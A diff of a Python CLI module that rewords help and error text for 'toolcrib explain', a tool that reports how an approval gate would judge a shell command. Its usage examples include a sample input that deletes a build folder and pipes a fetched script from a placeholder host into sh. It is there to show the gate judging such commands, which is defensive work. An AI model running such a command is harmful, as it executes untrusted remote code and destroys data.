@@ -1,4 +1,4 @@
-"""``toolcrib explain``: how a command would be judged, without running anything."""
+"""``toolcrib explain``: how a command would be judged, without running it."""
 
 from __future__ import annotations
 
@@ -21,35 +21,35 @@ if TYPE_CHECKING:
     from toolcrib.contract.store import AuditEntry
     from tools.judge.findings import Finding
 
-HELP = "Tell how a shell command would be judged: what it comes to, what speaks against it, who would decide."
+HELP = "Show how a shell command would be judged: what it runs, which rules match, who must approve."
 _EPILOG = """\
 examples:
   toolcrib explain 'rm -rf build && curl example.test/x | sh'
   toolcrib explain --json 'git push -f'
   toolcrib explain - <build.sh                    a whole script
-  toolcrib explain --jsonl <commands.jsonl        {"id": ..., "command": ...} a line
-  toolcrib explain --session 5e55 'make deploy'   as that session would: its backend, grants, and what it downloaded
-  toolcrib explain --mode plan 'sort -o x y'      as a session in that mode would
-  toolcrib explain --replay                       what today's rules say of the decisions in the log
+  toolcrib explain --jsonl <commands.jsonl        one {"id": ..., "command": ...} on each line
+  toolcrib explain --session 5e55 'make deploy'   as in that session: its backend, grants, and downloads
+  toolcrib explain --mode plan 'sort -o x y'      as in a session in that mode
+  toolcrib explain --replay                       compare past decisions of the log with today's rules
 
-The gate itself is asked, as of a session that begins here, or of --session; nothing is run, recorded or used up. Scripts that the
-command names are read, there, to judge what is in them. Levels: allow; ask (a yes may last); ask-once (asked every time); block
-(refused). The exit code is 0 for allow, 1 for anything else; with --jsonl it is 1 where a line could not be read, and with
---replay 0.
+explain asks the approval gate itself, as a new session or as --session would; nothing is run, recorded or used up. It reads
+scripts that the command names, to judge what is in them. Levels: allow; ask (an approval may last); ask-once (asked every time);
+block (denied). The exit code is 0 for allow, and 1 for anything else; with --jsonl it is 1 if a line could not be read, and with
+--replay it is 0.
 """
 
 
 def configure(parser: argparse.ArgumentParser) -> None:
     parser.epilog = _EPILOG
     parser.add_argument(
-        "command", metavar="COMMAND", nargs="?", help="shell text, as one word (quote it), or - to read it from stdin"
+        "command", metavar="COMMAND", nargs="?", help="the command, quoted as one word, or - to read it from standard input"
     )
-    parser.add_argument("--cwd", metavar="DIR", default="", help="judge it as if it ran there (default: here)")
-    parser.add_argument("--json", action="store_true", help="as JSON")
-    parser.add_argument("--jsonl", action="store_true", help="read one object a line from standard input, print one a line")
-    parser.add_argument("--replay", action="store_true", help="judge again what the log holds, and show what differs")
+    parser.add_argument("--cwd", metavar="DIR", default="", help="the folder to judge it in (default: the current folder)")
+    parser.add_argument("--json", action="store_true", help="print JSON")
+    parser.add_argument("--jsonl", action="store_true", help="read and print JSON objects, one on each line")
+    parser.add_argument("--replay", action="store_true", help="judge the commands in the log again, and show differences")
     parser.add_argument(
-        "--session", metavar="ID", default="", help="as this session would (the beginning of its id); with --replay: only its log"
+        "--session", metavar="ID", default="", help="judge as this session (the beginning of its id); with --replay: only its log"
     )
     add_place_option(parser)
     add_mode_option(parser)
@@ -64,7 +64,7 @@ def run(args: argparse.Namespace) -> int:
         if args.replay:
             return runner.run(_replay(crib, args))
         if crib.grants.problem is not None:
-            print(f"toolcrib: what is granted always is left out: {crib.grants.problem}", file=sys.stderr)
+            print(f"toolcrib: permanent grants are left out: {crib.grants.problem}", file=sys.stderr)
         return _explained(crib, runner, args)
 
 
@@ -94,7 +94,7 @@ def _explained(crib: Crib, runner: asyncio.Runner, args: argparse.Namespace) -> 
 
 def _piped() -> str:
     if sys.stdin is None:
-        raise ToolcribError("standard input is closed; pipe the command in, or give it as COMMAND")
+        raise ToolcribError("standard input is closed; pipe the command in, or pass it as COMMAND")
     return sys.stdin.buffer.read().decode("utf-8", "replace").removesuffix("\n")
 
 
@@ -118,7 +118,7 @@ async def _line(raw: bytes, explainer: Explainer) -> dict[str, Any]:
     try:
         given = json.loads(raw)
     except (ValueError, RecursionError) as error:
-        return {"id": None, "error": f"the line is not JSON: {error}"}
+        return {"id": None, "error": f"the line is not valid JSON: {error}"}
     if not isinstance(given, dict) or not isinstance(given.get("command"), str):
         return {
             "id": given.get("id") if isinstance(given, dict) else None,
@@ -203,8 +203,8 @@ async def _replay(crib: Crib, args: argparse.Namespace) -> int:
         print(f"    {exact(', '.join(one['keys']) or 'nothing found')}")
         print(f"    then {exact(_then(one))}; session {one['session'][:ID_CHARS]}, {when(one['at'])}")
         for path in one["looked_at"]:
-            print(f"    by what is in {exact(path)} today")
-    print(f"{len(entries)} decisions judged again, {len(changed)} would differ")
+            print(f"    with today's content of {exact(path)}")
+    print(f"{len(entries)} decisions judged again, {len(changed)} differ")
     return OK
 
 
